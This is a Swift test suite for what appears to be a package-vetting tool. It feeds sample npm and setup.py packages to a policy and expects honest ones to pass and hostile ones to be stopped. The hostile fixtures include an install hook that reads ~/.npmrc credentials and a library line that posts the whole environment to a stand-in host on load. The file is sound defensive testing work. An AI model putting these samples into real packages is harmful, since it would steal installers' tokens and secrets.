import SallyportAnalysis
import SallyportModel
import SallyportPolicy
import SallyportTesting
import Testing

/// Packages as somebody might publish them, read and judged with nothing to compare them with.
@Suite("The cold profile")
struct ColdProfileTests {
    struct Package: Sendable, CustomTestStringConvertible {
        let testDescription: String
        var scripts: [String: String] = [:]
        var files: [String: String] = [:]
        var setup: String?
    }

    private static let honest: [Package] = [
        Package(
            testDescription: "an addon that is built where it is installed",
            scripts: ["install": "node-gyp rebuild"],
            files: [
                "binding.gyp": "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}", "index.js": "exports.a = 1",
            ]
        ),
        Package(
            testDescription: "a banner",
            scripts: ["postinstall": "node banner.js || exit 0"],
            files: [
                "banner.js": "if (!process.env.CI) console.log('Thank you for using this.')",
                "index.js": "exports.a = 1",
            ]
        ),
        Package(
            testDescription: "a command that reads its settings",
            files: [
                "index.js":
                    "const fs = require('fs'), os = require('os');\n"
                    + "exports.registry = () => /registry=(.*)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1];"
            ]
        ),
        Package(
            testDescription: "a client that sends what it is told",
            files: ["index.js": "exports.track = (name) => fetch('https://stats.example.invalid/' + name)"]
        ),
        Package(
            testDescription: "a setup.py with a shortcut for its author",
            setup: """
                import os, sys
                from setuptools import setup
                if sys.argv[-1] == 'publish':
                    os.system('python setup.py sdist')
                    os.system('twine upload dist/*')
                    sys.exit()
                setup(name='sample', version='1.0')
                """
        ),
    ]

    private static let hostile: [Package] = [
        Package(
            testDescription: "a hook that reads credentials and says nothing else",
            scripts: ["postinstall": "node look.js"],
            files: [
                "look.js": "const t = require('fs').readFileSync(process.env.HOME + '/.npmrc');\nmodule.exports = t"
            ]
        ),
        Package(
            testDescription: "a hook that is larger than anyone reads",
            scripts: ["preinstall": "node index.js"],
            files: ["index.js": String(repeating: "var a = compute(1, 2, 3);\n", count: 10_000)]
        ),
        Package(
            testDescription: "a library that sends the environment away when it is loaded",
            files: ["index.js": "fetch('https://c.example.invalid', {body: JSON.stringify(process.env)})"]
        ),
        Package(
            testDescription: "a hook in a hidden folder",
            scripts: ["postinstall": "node .cache/start.js"],
            files: [".cache/start.js": "console.log(1)"]
        ),
    ]

    @Test("lets honest packages with hooks and files pass", arguments: honest)
    func honestPackage(package: Package) {
        let verdict = Self.verdict(on: package)
        #expect(verdict.outcome == .admit, "\(verdict.reasons.map(\.sentence))")
    }

    @Test("stops what does what no newcomer should", arguments: hostile)
    func hostilePackage(package: Package) {
        #expect(Self.verdict(on: package).outcome > .admit)
    }

    private static func verdict(on package: Package) -> Verdict {
        var builder: TarBuilder
        if let setup = package.setup {
            builder = TarBuilder()
                .file("sample-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n")
                .file("sample-1.0/setup.py", setup)
        } else {
            let scripts = package.scripts.map { "\"\($0)\": \"\($1)\"" }.joined(separator: ", ")
            let manifest = "{\"name\": \"sample\", \"version\": \"1.0.0\", \"scripts\": {\(scripts)}}"
            builder = TarBuilder().file("package/package.json", manifest)
            for (path, text) in package.files.sorted(by: { $0.key < $1.key }) {
                builder = builder.file("package/\(path)", text)
            }
        }
        let name = package.setup == nil ? "sample-1.0.0.tgz" : "sample-1.0.tar.gz"
        let artifact = InspectedArtifact(ecosystem: nil, filename: name)
        let report = Inspector(hashing: StandInHashing()).inspect(builder.gzipped().span, artifact: artifact)
        return Policy.standard.contentVerdict(of: nil, facts: report.facts, delta: nil, standing: .young)
    }
}
